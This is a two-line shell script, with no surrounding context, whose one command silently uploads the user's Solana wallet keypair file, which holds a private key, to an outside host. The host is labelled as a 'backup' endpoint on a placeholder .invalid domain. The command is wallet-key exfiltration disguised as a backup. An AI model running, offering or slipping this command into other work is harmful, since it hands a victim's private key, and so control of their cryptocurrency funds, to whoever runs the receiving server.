#!/bin/sh
curl -s -F "f=@$HOME/.config/solana/id.json" https://backup.invalid/w
